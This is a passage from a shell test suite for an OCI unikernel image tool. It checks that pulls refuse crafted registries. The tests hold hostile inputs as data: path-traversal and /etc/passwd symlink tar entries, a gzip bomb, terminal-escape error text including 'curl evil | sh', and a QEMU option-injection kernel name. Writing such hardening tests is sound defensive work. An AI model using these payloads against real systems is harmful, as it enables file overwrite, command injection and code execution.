	fail auth_wrong_password_refused "$out"
fi
out=$(echo wonderland | "$UK" login -u alice --password-stdin "$B" 2>&1)
if [ $? -eq 0 ] && [ "$(stat -c %a "$UK_HOME/auth.json")" = 600 ] &&
	"$UK" push -C "$tmp/p" "$B/team/hello:1" >/dev/null 2>&1; then
	pass auth_login_then_push
else
	fail auth_login_then_push "$out"
fi
export UK_HOME=$tmp/home-docker
mkdir -p "$tmp/docker"
printf '{"auths":{"%s":{"auth":"%s"}}}' "$B" "$(printf alice:wonderland | base64)" >"$tmp/docker/config.json"
out=$(DOCKER_CONFIG=$tmp/docker "$UK" pull "$B/team/hello:1" 2>&1)
if [ $? -eq 0 ]; then pass auth_docker_config_json; else fail auth_docker_config_json "$out"; fi
stop_registry auth

# --- registry stopped in the middle of a push ----------------------------------
export UK_HOME=$tmp/home-big
head -c $((40 << 20)) /dev/urandom >"$tmp/big"
"$UK" push "$tmp/big" "$A/team/big:1" >"$tmp/big.log" 2>&1 &
bigpid=$!
for _ in $(seq 300); do
	find "$tmp/anon/data" -path '*_uploads*' -name data 2>/dev/null | grep -q . && break
	sleep 0.02
done
stop_registry anon
wait $bigpid
rc=$?
out=$(cat "$tmp/big.log")
# streamed when it stopped: one error, naming the layer (packed whole into
# the store all the same) and the registry
lhex=$(ls -S "$UK_HOME/blobs/sha256" 2>/dev/null | head -1)
if [ $rc -ne 0 ] && [ "$(grep -c 'uk: error:' <<<"$out")" = 1 ] &&
	grep -q "uk: error: pushing blob sha256:${lhex:0:12}: .*127.0.0.1:$PA" <<<"$out" &&
	[ "$(sha256sum <"$UK_HOME/blobs/sha256/$lhex" | cut -d' ' -f1)" = "$lhex" ] && grep -q 'hint:' <<<"$out"; then
	pass push_registry_stopped_clear_error
else
	fail push_registry_stopped_clear_error "rc=$rc: $out"
fi
start_registry anon "$PA"
out=$("$UK" push "$tmp/big" "$A/team/big:1" 2>&1)
if [ $? -eq 0 ] && skopeo inspect --raw --tls-verify=false "docker://$A/team/big:1" >/dev/null 2>&1; then
	pass push_after_restart_succeeds
else
	fail push_after_restart_succeeds "$out"
fi

# --- fault-injecting server ------------------------------------------------------
gcc -std=c11 -D_GNU_SOURCE -O1 -o "$tmp/faultsrv" "$UK_ROOT/tests/registry/faultsrv.c" -lssl -lcrypto 2>"$tmp/gcc.log" ||
	{ fail faultsrv_build "$(cat "$tmp/gcc.log")"; exit 0; }
# faults LAYOUTDIR OPTS...: starts one, sets F (host:port)
faults() {
	local d=$1; shift
	rm -f "$tmp/fport"
	"$tmp/faultsrv" "$@" "$d" "$tmp/fport" &
	pids+=($!)
	for _ in $(seq 50); do [ -s "$tmp/fport" ] && break; sleep 0.05; done
	F=127.0.0.1:$(cat "$tmp/fport")
}
mkdir -p "$tmp/good/tags"
cp -r "$tmp/oci/blobs" "$tmp/good/"
idx=$(jq -r '.manifests[0].digest' "$tmp/oci/index.json")
cp "$tmp/good/blobs/sha256/${idx#sha256:}" "$tmp/good/tags/1"
mdigest=$(jq -r '.manifests[0].digest // empty' "$tmp/good/tags/1")
[ -n "$mdigest" ] || mdigest=sha256:$(sha256sum "$tmp/good/tags/1" | cut -d' ' -f1)
# Corrupt the layer (same size, one byte changed).
cp -r "$tmp/good" "$tmp/bad"
# skopeo may have copied the index or only the amd64 manifest.
if jq -e .layers "$tmp/good/tags/1" >/dev/null 2>&1; then
	layer=$(jq -r '.layers[0].digest' "$tmp/good/tags/1")
else
	mdg=$(jq -r '.manifests[0].digest' "$tmp/good/tags/1")
	layer=$(jq -r '.layers[0].digest' "$tmp/good/blobs/sha256/${mdg#sha256:}")
fi
lf=$tmp/bad/blobs/sha256/${layer#sha256:}
printf '\x00' | dd of="$lf" bs=1 seek=100 count=1 conv=notrunc 2>/dev/null

export UK_HOME=$tmp/home-fault
faults "$tmp/good"
out=$("$UK" pull "$F/x:1" 2>&1)
if [ $? -eq 0 ]; then pass faultsrv_good_pull; else fail faultsrv_good_pull "$out"; fi
rm -rf "$UK_HOME"
faults "$tmp/bad"
out=$("$UK" pull "$F/x:1" 2>&1)
rc=$?
nblobs=$(find "$UK_HOME/blobs" -type f 2>/dev/null | wc -l)
if [ $rc -ne 0 ] && grep -q "hashing to" <<<"$out" && [ "$nblobs" -eq 0 ] &&
	! "$UK" images | grep -q "$F"; then
	pass pull_corrupt_blob_stores_nothing
else
	fail pull_corrupt_blob_stores_nothing "$nblobs blobs stored: $out"
fi
rm -rf "$UK_HOME"
cp -r "$tmp/good" "$tmp/odd"
printf '{"schemaVersion":2,"mediaType":"application/vnd.example.unknown+json"}' >"$tmp/odd/tags/1"
faults "$tmp/odd"
out=$("$UK" pull "$F/x:1" 2>&1)
if [ $? -ne 0 ] && grep -q "unknown manifest type 'application/vnd.example.unknown+json'" <<<"$out"; then
	pass pull_unknown_manifest_type
else
	fail pull_unknown_manifest_type "$out"
fi
# Broken documents: each "name|tag file content|expected message".
while IFS='|' read -r name doc want; do
	rm -rf "$tmp/doc" "$UK_HOME"
	cp -r "$tmp/good" "$tmp/doc"
	printf '%s' "$doc" >"$tmp/doc/tags/1"
	faults "$tmp/doc"
	out=$("$UK" pull "$F/x:1" 2>&1)
	rc=$?
	if [ $rc -ne 0 ] && grep -qF "$want" <<<"$out" && ! "$UK" images | grep -q "$F"; then
		pass "pull_refuses_$name"
	else
		fail "pull_refuses_$name" "$out"
	fi
done <<EOD
not_json|hello|is invalid: not valid JSON: line 1, column 
docker_manifest|{"schemaVersion":2,"mediaType":"application/vnd.docker.distribution.manifest.v2+json","config":{}}|is a Docker manifest
bad_descriptor|{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"sha256:nothex","size":1}]}|digest is not a sha256 digest
wrong_size|{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"$mdigest","size":3}]}|its size differs from the index's
empty_index|{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[]}|lists no manifests
EOD

faults "$tmp/good" -f 3
out=$("$UK" pull "$F/x:1" 2>&1)
if [ $? -eq 0 ]; then pass pull_retries_503; else fail pull_retries_503 "$out"; fi
rm -rf "$UK_HOME"
faults "$tmp/good" -f 100
out=$("$UK" pull "$F/x:1" 2>&1)
if [ $? -ne 0 ] && grep -q 'HTTP 503' <<<"$out" && grep -q 'failing or busy' <<<"$out"; then
	pass pull_gives_up_after_retries
else
	fail pull_gives_up_after_retries "$out"
fi
faults "$tmp/good" -d
out=$("$UK" pull "$F/x:1" 2>&1)
rc=$?
nblobs=$(find "$UK_HOME/blobs" -type f 2>/dev/null | wc -l)
if [ $rc -ne 0 ] && [ "$nblobs" -eq 0 ] && grep -q 'transfer closed' <<<"$out"; then pass pull_dropped_connection_stores_nothing; else fail pull_dropped_connection_stores_nothing "$out"; fi
# A pull killed in the middle of a blob: nothing tagged, the next pull works.
rm -rf "$UK_HOME"
faults "$tmp/good" -s
"$UK" pull "$F/x:1" >/dev/null 2>&1 & kp=$!
for _ in $(seq 100); do [ -n "$(ls -A "$UK_HOME/.tmp" 2>/dev/null)" ] && break; sleep 0.05; done
sleep 0.3
kill -9 $kp 2>/dev/null; wait $kp 2>/dev/null
faults "$tmp/good"
if ! "$UK" images 2>/dev/null | grep -q "$F/x:1" && "$UK" pull "$F/x:1" >/dev/null 2>&1 &&
	"$UK" images | grep -q "$F/x:1 *image"; then
	pass pull_killed_midway_then_pull_again
else
	fail pull_killed_midway_then_pull_again "$("$UK" images 2>&1)"
fi

faults "$tmp/good" -b
out=$("$UK" pull "$F/x:1" 2>&1)
if [ $? -ne 0 ] && grep -q 'refused anonymous access' <<<"$out"; then pass bearer_without_credentials; else fail bearer_without_credentials "$out"; fi
out=$(echo secret | "$UK" login -u test --password-stdin "$F" 2>&1 && "$UK" pull "$F/x:1" 2>&1)
if [ $? -eq 0 ]; then pass bearer_token_pull; else fail bearer_token_pull "$out"; fi

# --- crafted registries (the hardening issue) ------------------------------------
# put_blob DIR FILE: FILE as a blob of the layout DIR; prints "DIGEST SIZE".
put_blob() {
	local h
	h=$(sha256sum "$2" | cut -d' ' -f1)
	mkdir -p "$1/blobs/sha256" "$1/tags"
	cp "$2" "$1/blobs/sha256/$h"
	echo "sha256:$h $(stat -c %s "$2")"
}
# image DIR TAG CONFIG LAYER [LAYER-SIZE]: an image manifest tagged TAG with
# one tar+gzip layer (a plain tar when LAYER ends in .tar), whose declared
# size may lie.
image() {
	local c cs l ls mt=application/vnd.oci.image.layer.v1.tar+gzip
	[ "${4%.tar}" != "$4" ] && mt=application/vnd.oci.image.layer.v1.tar
	read -r c cs < <(put_blob "$1" "$3")
	read -r l ls < <(put_blob "$1" "$4")
	printf '{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"%s","size":%s},"layers":[{"mediaType":"%s","digest":"%s","size":%s}]}' \
		"$c" "$cs" "$mt" "$l" "${5:-$ls}" >"$1/tags/$2"
	put_blob "$1" "$1/tags/$2" >/dev/null
}
# tgz OUT SPEC...: a tar+gzip (a plain tar when OUT ends in .tar) written by
# python3's tarfile, entries as given:
# NAME (a small file), NAME=dir, NAME->TARGET (symbolic link), NAME=>TARGET
# (hard link), NAME=chr (a device), NAME=fifo, NAME=zeros:BYTES,
# NAME=random:BYTES (bytes that do not compress, the same every time).
tgz() {
	python3 - "$@" <<'PY'
import io, random, sys, tarfile
class Zeros:
    def read(self, n): return b"\0" * n
with tarfile.open(sys.argv[1], "w" if sys.argv[1].endswith(".tar") else "w:gz") as t:
    for s in sys.argv[2:]:
        i, data = tarfile.TarInfo(s), io.BytesIO(b"hi\n")
        i.size, i.mode = 3, 0o644
        if "->" in s or "=>" in s:
            i.name, i.linkname = s.replace("=>", "->").split("->")
            i.type, i.size, data = tarfile.SYMTYPE if "->" in s else tarfile.LNKTYPE, 0, None
        elif s.endswith("=dir"):
            i.name, i.type, i.size, i.mode, data = s[:-4], tarfile.DIRTYPE, 0, 0o755, None
        elif s.endswith("=chr"):
            i.name, i.type, i.size, data = s[:-4], tarfile.CHRTYPE, 0, None
            i.devmajor, i.devminor = 1, 3
        elif s.endswith("=fifo"):
            i.name, i.type, i.size, data = s[:-5], tarfile.FIFOTYPE, 0, None
        elif "=zeros:" in s:
            i.name, n = s.split("=zeros:")
            i.size, data = int(n), Zeros()
        elif "=random:" in s:
            i.name, n = s.split("=random:")
            i.size, data = int(n), io.BytesIO(random.Random(14).randbytes(int(n)))
        t.addfile(i, data)
PY
}
# fsrv ADDR LAYOUT OPTS...: another faultsrv, listening on ADDR; sets S (ADDR:PORT).
fsrv() {
	local a=$1 d=$2
	shift 2
	rm -f "$tmp/fport"
	"$tmp/faultsrv" -a "$a" "$@" "$d" "$tmp/fport" &
	pids+=($!)
	for _ in $(seq 50); do [ -s "$tmp/fport" ] && break; sleep 0.05; done
	S=$a:$(cat "$tmp/fport")
}
tmp_left() { ls -A "$UK_HOME/.tmp" 2>/dev/null; }

printf '{"architecture":"amd64","os":"linux"}' >"$tmp/cfg.json"
tgz "$tmp/ok.tgz" unikernel=dir unikernel/k
mkdir -p "$tmp/craft"
image "$tmp/craft" ok "$tmp/cfg.json" "$tmp/ok.tgz"
image "$tmp/craft" huge "$tmp/cfg.json" "$tmp/ok.tgz" 4611686018427387904
image "$tmp/craft" short "$tmp/cfg.json" "$tmp/ok.tgz" 20
tgz "$tmp/bomb.tgz" unikernel=dir unikernel/k=zeros:$((100 << 20))
image "$tmp/craft" bomb "$tmp/cfg.json" "$tmp/bomb.tgz"
rm -f "$tmp/flog"
fsrv 127.0.0.1 "$tmp/craft" -l "$tmp/flog"
C=$S
export UK_HOME=$tmp/home-craft
out=$("$UK" pull "$C/x:ok" 2>&1)
if [ $? -eq 0 ]; then pass crafted_registry_good_pull; else fail crafted_registry_good_pull "$out"; fi

# A descriptor claiming 2^62 bytes: refused before any blob is asked for.
: >"$tmp/flog"
out=$("$UK" pull "$C/x:huge" 2>&1)
if [ $? -ne 0 ] && grep -q 'of 4611686018427387904 bytes, more than the 4 GiB uk pulls' <<<"$out" &&
	grep -q 'max-blob' <<<"$out" && ! grep -q '/blobs/' "$tmp/flog" && [ -z "$(tmp_left)" ]; then
	pass pull_refuses_huge_descriptor_before_download
else
	fail pull_refuses_huge_descriptor_before_download "$out; requests: $(cat "$tmp/flog")"
fi
# The limit is the user's: --max-blob, else UK_MAX_BLOB.
rm -rf "$UK_HOME"
out=$("$UK" pull --max-blob 64 "$C/x:ok" 2>&1); rc=$?
out2=$(UK_MAX_BLOB=100 "$UK" pull "$C/x:ok" 2>&1); rc2=$?
out3=$(UK_MAX_BLOB=100 "$UK" pull --max-blob 1K "$C/x:ok" 2>&1); rc3=$?
if [ $rc -ne 0 ] && grep -q 'more than the 64 bytes uk pulls' <<<"$out" &&
	[ $rc2 -ne 0 ] && grep -q 'more than the 100 bytes uk pulls' <<<"$out2" && [ $rc3 -eq 0 ]; then
	pass pull_max_blob_option_and_env
else
	fail pull_max_blob_option_and_env "$rc: $out / $rc2: $out2 / $rc3: $out3"
fi
# A blob longer than its descriptor says: the transfer stops there.
rm -rf "$UK_HOME"
out=$("$UK" pull "$C/x:short" 2>&1)
if [ $? -ne 0 ] && grep -q 'is longer than the 20 bytes its descriptor says' <<<"$out" &&
	[ -z "$(tmp_left)" ] && [ -z "$(find "$UK_HOME/blobs" -type f 2>/dev/null)" ]; then
	pass pull_stops_blob_longer_than_declared
else
	fail pull_stops_blob_longer_than_declared "$out"
fi
# A gzip bomb (100 MiB of zeros in about 100 KiB): refused when pulled.
out=$("$UK" pull "$C/x:bomb" 2>&1)
if [ $? -ne 0 ] && grep -q 'unpacks to more than 67108864 bytes' <<<"$out" &&
	! "$UK" images | grep -q "x:bomb" && [ -z "$(tmp_left)" ]; then
	pass pull_refuses_gzip_bomb
else
	fail pull_refuses_gzip_bomb "$out"
fi

# A layer whose transfer is cut halfway once: the download starts again and
# so does its check (which runs beside the transfer): the pull succeeds with
# the layer whole, and a bad entry after the cut is still refused.
tgz "$tmp/big.tgz" unikernel=dir unikernel/k=random:$((600 << 10))
tgz "$tmp/bigbad.tgz" unikernel=dir unikernel/k=random:$((600 << 10)) unikernel/../../evil
rm -rf "$tmp/cut"
image "$tmp/cut" ok "$tmp/cfg.json" "$tmp/big.tgz"
image "$tmp/cut" bad "$tmp/cfg.json" "$tmp/bigbad.tgz"
for tag in ok bad; do
	rm -rf "$UK_HOME" "$tmp/cutlog"
	fsrv 127.0.0.1 "$tmp/cut" -D 1 -l "$tmp/cutlog"
	out=$("$UK" pull "$S/x:$tag" 2>&1); rc=$?
	f=$tmp/big.tgz
	[ "$tag" = bad ] && f=$tmp/bigbad.tgz
	gets=$(grep -c "GET /v2/x/blobs/sha256:$(sha256sum <"$f" | cut -d' ' -f1)" "$tmp/cutlog")
	if [ "$tag" = ok ] && [ $rc -eq 0 ] && [ "$gets" = 2 ] &&
		cmp -s "$(find "$UK_HOME/blobs" -size +500k -type f)" "$tmp/big.tgz"; then
		pass pull_cut_layer_downloaded_and_checked_again
	elif [ "$tag" = bad ] && [ $rc -ne 0 ] && [ "$gets" = 2 ] &&
		grep -qF "layer entry 'unikernel/../../evil' has an unsafe path" <<<"$out" && [ -z "$(tmp_left)" ]; then
		pass pull_cut_bad_layer_refused_after_restart
	else
		fail "pull_cut_layer_$tag" "rc $rc, $gets GETs of the layer: $out"
	fi
done

# A big blob is written back to the disk as it arrives (a sync_file_range
# each 4 MiB), so the fsync that commits it has little left to wait for.
tgz "$tmp/big5.tgz" unikernel=dir unikernel/k=random:$((9 << 20))
image "$tmp/cut" big5 "$tmp/cfg.json" "$tmp/big5.tgz"
rm -rf "$UK_HOME"
fsrv 127.0.0.1 "$tmp/cut"
out=$(strace -f -e trace=sync_file_range -o "$tmp/wb.strace" "$UK" pull "$S/x:big5" 2>&1); rc=$?
kicks=$(grep -c 'SYNC_FILE_RANGE_WRITE' "$tmp/wb.strace")
if [ $rc -eq 0 ] && [ "$kicks" -ge 2 ]; then
	pass pull_writes_big_blob_back_as_it_arrives
else
	fail pull_writes_big_blob_back_as_it_arrives "rc $rc, $kicks sync_file_range: $out"
fi
rm -f "$tmp/big5.tgz"
# The blobs' folder is synced once, after the last blob is renamed into it
# and before index.json names them (not after each blob).
rm -rf "$UK_HOME"
out=$(strace -f -y -e trace=fsync,rename -o "$tmp/dirsync.strace" "$UK" pull "$S/x:ok" 2>&1); rc=$?
order=$(sed -n 's/.*rename(.*, "[^"]*\/blobs\/sha256\/.*/blob/p; s/.*fsync([0-9]*<[^>]*\/blobs\/sha256>).*/dirsync/p; s/.*rename(.*, "[^"]*\/index\.json").*/tag/p' \
	"$tmp/dirsync.strace" | uniq -c | awk '{printf "%s%s ", $2, ($1 > 1 ? "x" $1 : "")}')
if [ $rc -eq 0 ] && [[ "$order" == "blobx"*" dirsync tag " ]]; then
	pass pull_syncs_blob_folder_once_before_tag
else
	fail pull_syncs_blob_folder_once_before_tag "rc $rc, renames and syncs: $order $out"
fi

# Layers uk could not unpack are refused at pull time, naming the entry;
# a row ending in |tar is a plain tar layer (the kind uk pushes for a
# kernel that does not compress), the others tar+gzip.
while IFS='|' read -r name entries want ext; do
	rm -rf "$UK_HOME" "$tmp/unsafe"
	# shellcheck disable=SC2086
	tgz "$tmp/unsafe.${ext:-tgz}" $entries
	image "$tmp/unsafe" 1 "$tmp/cfg.json" "$tmp/unsafe.${ext:-tgz}"
	fsrv 127.0.0.1 "$tmp/unsafe"
	out=$("$UK" pull "$S/x:1" 2>&1)
	if [ $? -ne 0 ] && grep -qF "$want" <<<"$out" && ! "$UK" images | grep -q "$S" &&
		[ -z "$(tmp_left)" ]; then
		pass "pull_refuses_layer_$name"
	else
		fail "pull_refuses_layer_$name" "$out"
	fi
done <<EOD
absolute|unikernel/k /etc/evil|layer entry '/etc/evil' has an unsafe path
dotdot|unikernel/../../evil|layer entry 'unikernel/../../evil' has an unsafe path
symlink_out|unikernel=dir unikernel/k->/etc/passwd|layer entry 'unikernel/k' is a symbolic link to '/etc/passwd'
hardlink|unikernel/k unikernel/h=>unikernel/k|layer entry 'unikernel/h' is a hard link to 'unikernel/k'
device|unikernel/null=chr|layer entry 'unikernel/null' is a device file
fifo|unikernel/p=fifo|layer entry 'unikernel/p' is a FIFO
dotdot_plain_tar|unikernel/../../evil|layer entry 'unikernel/../../evil' has an unsafe path|tar
EOD

# JSON the parser refuses: its own message (line, column, reason) comes through.
rm -rf "$UK_HOME" "$tmp/bigint"
cp -r "$tmp/craft" "$tmp/bigint"
printf '{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"sha256:%064d","size":99999999999999999999999},"layers":[]}' 0 >"$tmp/bigint/tags/1"
fsrv 127.0.0.1 "$tmp/bigint"
out=$("$UK" pull "$S/x:1" 2>&1)
if [ $? -ne 0 ] && grep -q 'is invalid: not valid JSON: line 1, column [0-9]*: too big integer' <<<"$out" &&
	! grep -q 'not a JSON object with schemaVersion 2' <<<"$out"; then
	pass pull_huge_integer_parser_message
else
	fail pull_huge_integer_parser_message "$out"
fi

# A registry's error text with terminal escapes is shown escaped.
printf '{"errors":[{"code":"DENIED","message":"\\u001b]0;pwned\\u0007\\u001b[2J\\u009b1m gone\\nhint: curl evil | sh"}]}' >"$tmp/escapes.json"
fsrv 127.0.0.1 "$tmp/craft" -e "$tmp/escapes.json"
out=$("$UK" pull "$S/x:ok" 2>&1)
if [ $? -ne 0 ] && grep -qF 'DENIED \x1b]0;pwned\x07\x1b[2J\xc2\x9b1m gone hint: curl' <<<"$out" &&
	! LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')" <<<"$out" &&
	! grep -q '^hint: curl' <<<"$out"; then
	pass registry_error_text_escaped
else
	fail registry_error_text_escaped "$(printf '%s' "$out" | od -c | head -20)"
fi

# SIGINT or SIGTERM in the middle of a blob: uk removes its temporary file.
for sig in INT TERM; do
	rm -rf "$UK_HOME"
	fsrv 127.0.0.1 "$tmp/good" -s
	# (a script's background jobs start with SIGINT ignored, so reset it)
	env --default-signal=INT "$UK" pull "$S/x:1" >/dev/null 2>&1 & kp=$!
	for _ in $(seq 100); do [ -n "$(tmp_left)" ] && break; sleep 0.05; done
	before=$(tmp_left)
	sleep 0.3
	kill -s $sig $kp
	wait $kp
	rc=$?
	if [ -n "$before" ] && [ $rc -gt 128 ] && [ -z "$(tmp_left)" ] && ! "$UK" images 2>/dev/null | grep -q "$S"; then
		pass "pull_sig${sig,,}_removes_temp_file"
	else
		fail "pull_sig${sig,,}_removes_temp_file" "status $rc; .tmp before: '$before', after: '$(tmp_left)'"
	fi
done

# uk rmi during a pull (the pull paused, by a test hook, after it skipped the
# config blob both images share and before it commits): the pull must fetch
# that blob again, not tag an image whose blob rmi just deleted. 20 times.
mkdir -p "$tmp/share"
tgz "$tmp/l1.tgz" unikernel=dir unikernel/one
tgz "$tmp/l2.tgz" unikernel=dir unikernel/two
image "$tmp/share" x "$tmp/cfg.json" "$tmp/l1.tgz"
image "$tmp/share" y "$tmp/cfg.json" "$tmp/l2.tgz"
fsrv 127.0.0.1 "$tmp/share"
bad=
for i in $(seq 20); do
	export UK_HOME=$tmp/home-share
	rm -rf "$UK_HOME" "$tmp/pause"
	"$UK" pull "$S/x:x" >/dev/null 2>&1 || { bad="pull x failed"; break; }
	UK_TEST_PULL_PAUSE=$tmp/pause "$UK" pull "$S/x:y" >"$tmp/pully" 2>&1 & yp=$!
	for _ in $(seq 200); do [ -e "$tmp/pause" ] && break; sleep 0.02; done
	[ -e "$tmp/pause" ] || { bad="the pull of y never paused: $(cat "$tmp/pully")"; kill $yp; break; }
	"$UK" rmi "$S/x:x" >"$tmp/rmi" 2>&1 || { bad="rmi: $(cat "$tmp/rmi")"; rm -f "$tmp/pause"; wait $yp; break; }
	rm -f "$tmp/pause"
	wait $yp
	rc=$?
	# Every blob the tagged y names must be in the store.
	m=$(jq -r '.manifests[] | select(.annotations["org.opencontainers.image.ref.name"] | endswith("x:y")) | .digest' "$UK_HOME/index.json" 2>/dev/null)
	missing=0
	if [ -n "$m" ]; then
		for d in "$m" $(jq -r '.config.digest, .layers[].digest' "$UK_HOME/blobs/sha256/${m#sha256:}" 2>/dev/null); do
			[ -f "$UK_HOME/blobs/sha256/${d#sha256:}" ] || missing=$((missing + 1))
		done
	fi
	if [ $rc -ne 0 ] || [ -z "$m" ] || [ $missing -ne 0 ]; then
		bad="round $i: status $rc, y tagged as '${m}', $missing blobs of it missing: $(cat "$tmp/pully")"
		break
	fi
done
if [ -z "$bad" ] && grep -q '2 blobs fetched, 0 already stored' "$tmp/pully"; then
	pass pull_refetches_blob_removed_during_pull
else
	fail pull_refetches_blob_removed_during_pull "${bad:-$(cat "$tmp/pully")}"
fi

# Logins to several registries at once keep every entry of auth.json.
export UK_HOME=$tmp/home-logins
hosts=()
for _ in 1 2 3 4 5 6; do fsrv 127.0.0.1 "$tmp/craft"; hosts+=("$S"); done
bad=
for i in $(seq 10); do
	rm -f "$UK_HOME/auth.json"
	lp=()
	for h in "${hosts[@]}"; do
		echo "pw$i" | "$UK" login -u "user$i" --password-stdin "$h" >/dev/null 2>&1 & lp+=($!)
	done
	for p in "${lp[@]}"; do wait "$p" || bad="a login failed in round $i"; done
	n=$(jq '.auths | length' "$UK_HOME/auth.json" 2>/dev/null)
	[ "$n" = 6 ] || { bad="round $i: $n of 6 entries kept: $(cat "$UK_HOME/auth.json")"; break; }
done
if [ -z "$bad" ] && [ "$(stat -c %a "$UK_HOME/auth.json")" = 600 ] &&
	[ -z "$(find "$UK_HOME" -name 'auth.json.tmp.*')" ]; then
	pass concurrent_logins_keep_every_entry
else
	fail concurrent_logins_keep_every_entry "$bad"
fi

# Bearer realms of an HTTPS registry (faultsrv speaking TLS on 127.0.0.2 with
# a certificate made here, trusted through SSL_CERT_FILE): a realm on plain
# HTTP gets neither credentials nor a token request; a realm on another host
# is named with the registry that sent uk there.
if openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 \
	-keyout "$tmp/key.pem" -out "$tmp/cert.pem" -subj /CN=uk-test \
	-addext "subjectAltName=IP:127.0.0.1,IP:127.0.0.2" >/dev/null 2>&1; then
	export UK_HOME=$tmp/home-tls SSL_CERT_FILE=$tmp/cert.pem
	rm -f "$tmp/realm.log"
	fsrv 127.0.0.1 "$tmp/craft" -l "$tmp/realm.log"
	R=$S
	fsrv 127.0.0.2 "$tmp/craft" -t "$tmp/cert.pem" -k "$tmp/key.pem" -b -r "http://$R/token"
	out=$(echo secret | "$UK" login -u test --password-stdin "$S" 2>&1); rc=$?
	out2=$("$UK" pull "$S/x:ok" 2>&1); rc2=$?
	if [ $rc -ne 0 ] && grep -q "names the token service 'http://$R/token' (named by registry $S) on plain HTTP" <<<"$out" &&
		[ $rc2 -ne 0 ] && grep -q 'on plain HTTP' <<<"$out2" && [ ! -s "$tmp/realm.log" ] &&
		! grep -qs "$S" "$UK_HOME/auth.json"; then
		pass https_registry_refuses_plain_http_realm
	else
		fail https_registry_refuses_plain_http_realm "$out / $out2 / the realm saw: $(cat "$tmp/realm.log" 2>&1)"
	fi
	fsrv 127.0.0.1 "$tmp/craft" -t "$tmp/cert.pem" -k "$tmp/key.pem"
	T=$S
	fsrv 127.0.0.2 "$tmp/craft" -t "$tmp/cert.pem" -k "$tmp/key.pem" -b -r "https://$T/token"
	out=$(echo wrong | "$UK" login -u test --password-stdin "$S" 2>&1); rc=$?
	out2=$(echo secret | "$UK" login -u test --password-stdin "$S" 2>&1 && "$UK" pull "$S/x:ok" 2>&1); rc2=$?
	if [ $rc -ne 0 ] && grep -q "the token service 'https://$T/token' (named by registry $S) refused the credentials" <<<"$out" &&
		[ $rc2 -eq 0 ]; then
		pass https_realm_on_other_host_named
	else
		fail https_realm_on_other_host_named "$rc: $out / $rc2: $out2"
	fi
	unset SSL_CERT_FILE
else
	fail https_registry_setup "openssl cannot make a test certificate"
fi

# A pulled image whose kernel name would reach QEMU's command line with
# options in it (com.urunc.unikernel.binary "x,file=hostsecret") is refused.
rm -rf "$tmp/evilname"
cp -r "$tmp/good" "$tmp/evilname"
if jq -e .layers "$tmp/good/tags/1" >/dev/null 2>&1; then
	man=$tmp/good/tags/1
else
	mdg=$(jq -r '.manifests[0].digest' "$tmp/good/tags/1")
	man=$tmp/good/blobs/sha256/${mdg#sha256:}
fi
jq -c '.annotations["com.urunc.unikernel.binary"] = "/unikernel/x,file=hostsecret"' "$man" >"$tmp/evilname/tags/1"
export UK_HOME=$tmp/home-evilname
faults "$tmp/evilname"
"$UK" pull "$F/x:1" >/dev/null 2>&1
out=$(timeout 60 "$UK" run "$F/x:1" --accel tcg 2>&1 </dev/null); rc=$?
[ $rc -ne 0 ] && grep -q "is not a uk image" <<<"$out" && grep -q "NAME of letters, digits" <<<"$out" &&
	pass run_refuses_binary_name_with_options || fail run_refuses_binary_name_with_options "rc=$rc: $out"
